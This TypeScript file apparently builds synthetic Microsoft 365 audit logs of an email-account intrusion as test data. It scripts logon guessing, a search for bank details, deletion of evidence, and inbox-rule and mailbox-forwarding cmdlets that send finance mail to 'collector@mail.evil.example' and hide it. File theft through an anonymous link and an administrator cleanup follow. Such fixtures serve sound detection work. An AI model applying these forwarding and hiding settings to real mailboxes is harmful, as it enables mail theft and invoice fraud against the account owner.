import { appIds } from '../apps.ts';
import * as known from '../identities.ts';
import { documentNamed } from './documents.ts';
import { butWith, type Doer, personAt } from './doer.ts';
import { directoryRecord, logonRecord } from './entra-records.ts';
import { cmdletRecord, ruleObjectId, searchRecord } from './exchange-admin-records.ts';
import { fileRecord, sharingRecord } from './file-records.ts';
import { folderSynced, type MailAccess, messageRecord, messagesRecord } from './mail-records.ts';
import { ago, type Story } from './story.ts';

const ruleName = '.';
const outside = 'collector@mail.evil.example';

/** Guessed, got in, read all mail until the log gave up counting, and looked for money. */
function breakIn(story: Story, thief: Doer): void {
  for (let i = 0; i < 6; i += 1) {
    story.at(
      ago(4, 2, 12 - i),
      logonRecord('UserLoginFailed', thief, known.alice.id, appIds.exchange),
    );
  }
  story.at(ago(4, 2, 5), logonRecord('UserLoggedIn', thief, known.alice.id, appIds.exchange));
  const access: MailAccess = {
    doer: thief,
    owner: story.person(known.alice),
    logon: 'owner',
    client: 'Client=REST;Client=RESTSystem;;',
  };
  story.at(ago(4, 2), folderSynced(access, '\\Inbox', true));
  story.at(ago(4, 1, 55), searchRecord(thief, 'Exchange', 'invoice OR "bank details" OR IBAN'));
  story.at(
    ago(4, 1, 30),
    messageRecord('Send', access, { subject: 'New bank details' }, '\\Sent Items'),
  );
  story.at(
    ago(4, 1, 28),
    messagesRecord(
      'HardDelete',
      access,
      [
        { subject: 'New bank details' },
        { subject: 'Security alert: new inbox rule' },
        { subject: 'Undeliverable: New bank details', attachments: 'details.eml (4021b)' },
      ],
      '\\Recoverable Items\\Deletions',
    ),
  );
}

/** A rule that forwards what is about money to the outside and hides it. */
function hideBehindRule(story: Story, thief: Doer): void {
  const objectId = ruleObjectId(known.alice.userPrincipalName, ruleName);
  story.at(
    ago(4, 1, 45),
    cmdletRecord('New-InboxRule', thief, objectId, {
      AlwaysDeleteOutlookRulesBlob: 'False',
      Force: 'False',
      Name: ruleName,
      ForwardTo: outside,
      SubjectOrBodyContainsWords: 'invoice;payment;Rechnung;IBAN',
      MoveToFolder: 'RSS Feeds',
      MarkAsRead: 'True',
      StopProcessingRules: 'True',
    }),
  );
  story.at(
    ago(4, 1, 40),
    cmdletRecord('Set-InboxRule', thief, objectId, {
      Identity: ruleName,
      RedirectTo: outside,
      DeleteMessage: 'True',
    }),
  );
  story.at(
    ago(4, 1, 35),
    cmdletRecord('Set-Mailbox', thief, known.alice.displayName, {
      Identity: known.alice.userPrincipalName,
      ForwardingSmtpAddress: `smtp:${outside}`,
      DeliverToMailboxAndForward: 'True',
    }),
  );
}

/** Files taken: downloaded, and left open to anybody with the link. */
function takeFiles(story: Story, thief: Doer): void {
  const names = ['Payroll 2026', 'Supplier bank', 'Budget 2027', 'Forecast Q4', 'Jahresabschluss'];
  for (const [index, name] of names.entries()) {
    story.at(ago(4, 1, 20 - index * 2), fileRecord('FileDownloaded', thief, documentNamed(name)));
  }
  const payroll = documentNamed('Payroll 2026');
  story.at(ago(4, 1), sharingRecord('AnonymousLinkCreated', thief, payroll, 'View'));
  const anybody = butWith(thief, { userId: 'anonymous', userKey: 'anonymous' });
  const hashed = butWith(thief, {
    userId: 'urn:spo:anon#5f2ac6b1d0e94c7a',
    userKey: 'i:0h.f|membership|urn%3aspo%3aanon#5f2ac6b1d0e94c7a',
    address: '192.0.2.99',
  });
  story.at(ago(3, 20), sharingRecord('AnonymousLinkUsed', anybody, payroll, 'View'));
  story.at(ago(3, 19), sharingRecord('AnonymousLinkUsed', hashed, payroll, 'View'));
  story.at(ago(3, 18.9), fileRecord('FileDownloaded', hashed, payroll));
}

/** The administrator puts things right the next morning. */
function cleanUp(story: Story): void {
  const adminPerson = story.person(known.adminUser);
  const alice = story.person(known.alice);
  const admin = personAt(adminPerson);
  const objectId = ruleObjectId(known.alice.userPrincipalName, ruleName);
  story.at(
    ago(3, 6),
    directoryRecord('Reset user password.', admin, adminPerson.id, alice, [
      ['Included Updated Properties', '', ''],
    ]),
  );
  story.at(
    ago(3, 5, 50),
    directoryRecord('Update user.', admin, adminPerson.id, alice, [
      ['StrongAuthenticationMethod', '[{"Default": true,"MethodType": 6}]', '[]'],
      ['Included Updated Properties', 'StrongAuthenticationMethod', ''],
      ['TargetId.UserType', 'Member', ''],
    ]),
  );
  story.at(
    ago(3, 5, 40),
    cmdletRecord('Remove-InboxRule', admin, objectId, { Identity: ruleName }),
  );
  story.at(
    ago(3, 5, 30),
    cmdletRecord('Set-Mailbox', admin, known.alice.displayName, {
      Identity: known.alice.userPrincipalName,
      ForwardingSmtpAddress: '',
      DeliverToMailboxAndForward: 'False',
    }),
  );
}

/** Four days ago somebody was in Alice's account for an hour. */
export function tellIntrusion(story: Story): void {
  const alice = story.person(known.alice);
  const thief = butWith(personAt(alice, 'lagos', 3), { device: alice.devices.own });
  breakIn(story, thief);
  hideBehindRule(story, thief);
  takeFiles(story, thief);
  cleanUp(story);
}
